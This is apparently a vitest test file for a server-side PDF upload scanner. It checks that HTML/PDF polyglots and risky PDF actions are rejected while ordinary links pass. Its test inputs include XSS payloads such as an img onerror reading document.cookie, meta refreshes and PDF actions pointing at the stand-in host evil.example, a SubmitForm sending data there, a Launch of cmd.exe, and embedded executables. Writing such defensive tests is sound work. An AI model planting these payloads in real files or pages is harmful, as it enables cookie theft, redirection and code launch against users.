// The upload scan (file-store.server.ts PdfScan) against what issue 18 found it missed: an HTML
// element with an event handler or a meta refresh behind "%PDF-", and PDFs that open a web address,
// send form data or carry files by themselves. Ordinary PDFs — a clickable link, an opening view —
// still pass.
import { describe, expect, it } from "vitest";
import { PdfScan } from "~/models/file-store.server";

/** Scan `bytes` in pieces of `piece` bytes, as an upload streams in. */
function scan(text: string, piece = 1 << 16): string | null {
  const bytes = Buffer.from(text, "latin1");
  const s = new PdfScan();
  for (let at = 0; at < bytes.length; at += piece) s.update(bytes.subarray(at, at + piece));
  return s.verdict();
}

/** A small PDF whose catalog carries `catalog` and which has `objects` after it. */
const pdf = (catalog: string, objects = "") =>
  `%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${catalog} >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>\nendobj\n${objects}trailer\n<< /Root 1 0 R >>\n%%EOF\n`;

const uriAction = (n: number) => `${n} 0 obj\n<< /Type /Action /S /URI /URI (https://evil.example/collect?id=1) >>\nendobj\n`;

describe("HTML behind a PDF header", () => {
  it.each([
    ["an image with onerror", "%PDF-1.4\n<img src=x onerror=alert(document.cookie)>\n%%EOF\n"],
    ["upper case, a slash for a space", "%PDF-1.4\n<IMG/SRC=x ONERROR = alert(1)>\n"],
    ["an attribute right after a quote", `%PDF-1.4\n<img src="x"onerror="alert(1)">\n`],
    ["any element with a handler", "%PDF-1.4\n<details open ontoggle=alert(1)>\n"],
    ["a meta refresh", '%PDF-1.4\n<meta http-equiv=refresh content="0;url=https://evil.example">\n'],
    ["a meta refresh in capitals, spaced and quoted", "%PDF-1.4\n<META  HTTP-EQUIV = 'Refresh' CONTENT='0; URL=https://evil.example'>\n"],
    ["a meta refresh after other attributes", '%PDF-1.4\n<meta charset="utf-8" http-equiv="REFRESH" content="0">\n'],
    ["an object element", "%PDF-1.4\n<object data=x>\n"],
  ])("refuses %s", (_, text) => {
    expect(scan(text)).toBe("errors.upload.polyglot");
  });

  it("sees an element split across pieces", () => {
    expect(scan("%PDF-1.4\n" + " ".repeat(100) + "<img src=x onerror=alert(1)>\n", 115)).toBe("errors.upload.polyglot");
  });

  it("leaves PDF syntax that only looks a little like markup alone", () => {
    expect(scan(pdf("/Metadata 4 0 R", "4 0 obj\n<< /Length 20 >>\nstream\n<ab12 cd> <<>> (a<b) (onload=1)\nendstream\nendobj\n"))).toBeNull();
    expect(scan("%PDF-1.4\n(the meta tag <meta charset=utf-8> is fine) (an <img src=x> without a handler too)\n")).toBeNull();
  });
});

describe("PDF actions", () => {
  it("refuses an /OpenAction that opens a web address: inline, or naming a URI action before or after it", () => {
    expect(scan(pdf("/OpenAction << /S /URI /URI (https://evil.example) >>"))).toBe("errors.upload.pdfAction");
    expect(scan(pdf("/OpenAction 5 0 R", uriAction(5)))).toBe("errors.upload.pdfAction");
    expect(scan(`%PDF-1.7\n${uriAction(9)}1 0 obj\n<< /Type /Catalog /OpenAction 9 0 R >>\nendobj\n%%EOF\n`)).toBe("errors.upload.pdfAction");
    // Name escapes do not hide it.
    expect(scan(pdf("/Open#41ction 5 0 R", uriAction(5).replace("/URI /URI", "/U#52I /URI")))).toBe("errors.upload.pdfAction");
    // Split across pieces, far apart.
    expect(scan(pdf("/OpenAction 5 0 R", "%" + "x".repeat(5000) + "\n" + uriAction(5)), 97)).toBe("errors.upload.pdfAction");
  });

  it("refuses additional actions (/AA: on opening a page…) that open a web address", () => {
    expect(scan(pdf("", "6 0 obj\n<< /Type /Page /AA << /O 7 0 R >> >>\nendobj\n" + uriAction(7)))).toBe("errors.upload.pdfAction");
    expect(scan(pdf("", "6 0 obj\n<< /Type /Page /AA << /O << /S /URI /URI (https://evil.example) >> >> >>\nendobj\n"))).toBe("errors.upload.pdfAction");
  });

  it.each([
    ["/SubmitForm", "<< /S /SubmitForm /F (https://evil.example/form) >>", "errors.upload.pdfAction"],
    ["/ImportData", "<< /S /ImportData /F (data.fdf) >>", "errors.upload.pdfAction"],
    ["/EmbeddedFiles", "/Names << /EmbeddedFiles << /Names [(a.exe) 8 0 R] >> >>", "errors.upload.pdfEmbedded"],
    ["an /EmbeddedFile stream", "/X << /Type /EmbeddedFile >>", "errors.upload.pdfEmbedded"],
    ["a file attachment", "/Annots [<< /Subtype /FileAttachment /FS 8 0 R >>]", "errors.upload.pdfEmbedded"],
    ["/Launch", "/OpenAction << /S /Launch /F (cmd.exe) >>", "errors.upload.pdfScript"],
    ["/JavaScript", "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>", "errors.upload.pdfScript"],
    ["/JS alone", "/AA << /O << /JS (x) >> >>", "errors.upload.pdfScript"],
  ])("refuses %s", (_, catalog, key) => {
    expect(scan(pdf(catalog))).toBe(key);
  });

  it("takes a clickable link, an opening view and an /OpenAction naming a page", () => {
    const link = "4 0 obj\n<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A << /S /URI /URI (https://www.gov.cn) >> >>\nendobj\n";
    expect(scan(pdf("/OpenAction [3 0 R /Fit]", link))).toBeNull();
    expect(scan(pdf("/OpenAction 3 0 R", link))).toBeNull();
    expect(scan(pdf("/PageMode /UseOutlines", link))).toBeNull();
    // A page with additional actions that do not open an address, and a link elsewhere.
    expect(scan(pdf("", "6 0 obj\n<< /Type /Page /AA << /O 3 0 R >> >>\nendobj\n" + link))).toBeNull();
  });
});
